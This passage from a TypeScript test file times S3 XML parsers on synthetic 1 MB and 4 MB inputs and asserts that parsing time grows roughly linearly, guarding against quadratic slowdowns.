    const fastest = (parse: (xml: string) => unknown, xml: string) => {
      let best = Number.POSITIVE_INFINITY
      for (let r = 0; r < 3; r++) {
        const t = performance.now()
        parse(xml)
        best = Math.min(best, performance.now() - t)
      }
      return best
    }
    for (const [label, parse, make] of [
      ['distinct details', parseS3Error, (n: number) => `<Error><Code>c</Code>${Array.from({ length: n / 24 }, (_, i) => `<a${i}/>`).join(' '.repeat(14))}</Error>`],
      ['parts', parseListParts, (n: number) => `<ListPartsResult><IsTruncated>false</IsTruncated>${Array.from({ length: Math.min(n / 400, 10_000) }, (_, i) => `<Part><PartNumber>${i + 1}</PartNumber><ETag>e</ETag><Size>1</Size></Part>`).join(' '.repeat(300))}</ListPartsResult>`],
      ['attributes', parseS3Error, (n: number) => `<Error${' a=""'.repeat(n / 5)}><Code>c</Code></Error>`],
    ] as const) {
      const small = make(MB)
      const large = make(4 * MB - 1000)
      expect(large.length).toBeLessThanOrEqual(MAX_XML_LENGTH)
      expect(parse(large)).toBeTruthy()
      fastest(parse, small) // warm up
      const t1 = fastest(parse, small)
      const t4 = fastest(parse, large)
      if (process.env.LINEAR_MEASURE) console.log(`${label}: ${t1.toFixed(1)} ms, 4x: ${t4.toFixed(1)} ms (ratio ${(t4 / t1).toFixed(1)})`)
      expect(t4, `${label}: ${t1.toFixed(1)} ms, then ${t4.toFixed(1)} ms for 4 times the input`).toBeLessThan(10 * Math.max(t1, 2))
    }
  })
})
